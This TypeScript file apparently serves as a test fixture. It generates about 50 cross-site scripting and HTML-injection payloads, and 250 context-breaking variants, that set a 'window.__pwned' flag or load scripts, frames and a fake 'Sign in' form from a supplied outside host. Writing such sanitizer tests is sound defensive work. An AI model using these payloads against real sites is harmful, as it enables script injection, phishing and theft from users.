// Texts that do something where markup, addresses or text are mistaken for code.

/** What runs `window.__pwned = 1`, or asks the trap, where markup, addresses or text are mistaken for code. */
export function payloads(away: string): string[] {
  const run = 'window.__pwned=1';
  return [
    `<script>${run}</script>`,
    `"><script>${run}</script>`,
    `'><script>${run}</script>`,
    `</script><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script src="${away}/a.js"></script>`,
    `<script type="module">import "${away}/b.js"</script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${away}/c.png">`,
    `<image src=x onerror=${run}>`,
    `"><img src=x onerror=${run}>`,
    `<img srcset="${away}/d.png 1x">`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
    `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<iframe src="javascript:parent.__pwned=1"></iframe>`,
    `<iframe src="${away}/e.html"></iframe>`,
    `<object data="${away}/f.html"></object>`,
    `<embed src="${away}/g.html">`,
    `<body onload=${run}>`,
    `<details open ontoggle=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}>`,
    `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}>`,
    `<marquee onstart=${run}>`,
    `<div style="animation-name:x" onanimationstart=${run}>`,
    `<div style="background:url(${away}/h.png)">`,
    `<link rel=stylesheet href="${away}/i.css">`,
    `<style>@import "${away}/j.css";</style>`,
    `<meta http-equiv=refresh content="0;url=${away}/k.html">`,
    `<base href="${away}/">`,
    `<form action="${away}/l"><button>Sign in</button></form>`,
    `<a href="javascript:${run}">here</a>`,
    `javascript:${run}//`,
    `data:text/html,<script>opener.__pwned=1</script>`,
    `\${${run}}{{constructor.constructor('${run}')()}}`,
    `{@html '<img src=x onerror=${run}>'}`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `\u202e<script>${run}</script>\u202c\u0000\u001b[31m\u2028`,
  ];
}

/** 250 of them: each as it is, and where attributes, elements, comments or encodings may end before it. */
export function manyPayloads(away: string): string[] {
  const breaks = ['', '"/>', "' x='", '</b></td></tr></table></section></main>', '--></style></title></script>\n'];
  return breaks.flatMap((before) => payloads(away).map((text) => before + text));
}
